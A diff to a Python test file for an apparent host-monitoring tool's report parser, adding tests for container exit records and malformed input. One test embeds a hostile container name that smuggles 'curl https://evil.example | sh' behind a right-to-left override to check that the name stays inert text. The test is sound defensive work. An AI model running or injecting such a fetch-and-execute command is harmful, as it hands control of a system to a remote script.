@@ -8,7 +8,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from lifeguard.core.guest.change import GuestChange, GuestRefusal, GuestStep
+from lifeguard.core.guest.change import ContainerEnd, GuestChange, GuestRefusal, GuestStep
 from lifeguard.core.guest.look import Unasked
 from lifeguard.core.text.foreign import Foreign
 from lifeguard.ingest.guest.change import read_change
@@ -32,6 +32,33 @@ def test_a_refusal_is_read_with_the_numbers_it_hangs_on() -> None:
     assert read_change(printed(WAS, refused)).refused == GuestRefusal(
         "disk_too_full", (("avail_kb", 7.0), ("needs_kb", 1.0))
     )
+
+
+ENDED = {"k": "ended", "name": "api", "exit": 137, "oom": False, "running": False}
+
+
+def test_the_ends_of_containers_are_read() -> None:
+    took = {"k": "did", "what": "containers", "before": 2, "after": 1, "seconds": 12}
+    runs = {"k": "ended", "name": "stuck", "running": True}
+    found = read_change(printed(took, ENDED, runs))
+    assert found.did == (GuestStep(Foreign("containers"), 2.0, 1.0, 12.0),)
+    assert found.ended == (
+        ContainerEnd(Foreign("api"), 137, oom_killed=False, runs=False),
+        ContainerEnd(Foreign("stuck"), runs=True),
+    )
+    assert [one.killed for one in found.ended] == [True, False]
+
+
+def test_more_ends_than_the_script_tells_are_counted() -> None:
+    found = read_change(printed(*([ENDED] * 21)))
+    assert (len(found.ended), found.malformed) == (20, 1)
+
+
+def test_a_hostile_name_stays_text_of_others() -> None:
+    hostile = {**ENDED, "name": "x\u202e; curl https://evil.example | sh\n" + "y" * 500}
+    (one,) = read_change(printed(hostile)).ended
+    assert isinstance(one.name, Foreign)
+    assert len(one.name.text) <= 128
 
 
 def test_a_second_time_is_read() -> None:
@@ -60,6 +87,11 @@ def test_a_cut_report_says_so() -> None:
         {"k": "refused"},
         {"k": "refused", "why": "Because it says: no"},
         {"k": "undo"},
+        {"k": "did", "what": "x", "seconds": -1},
+        {"k": "ended"},
+        {"k": "ended", "name": "api", "exit": 256},
+        {"k": "ended", "name": "api", "exit": "137"},
+        {"k": "ended", "name": "api", "running": "yes"},
         {"k": "was", "swap_kb": 10**300},
     ],
 )
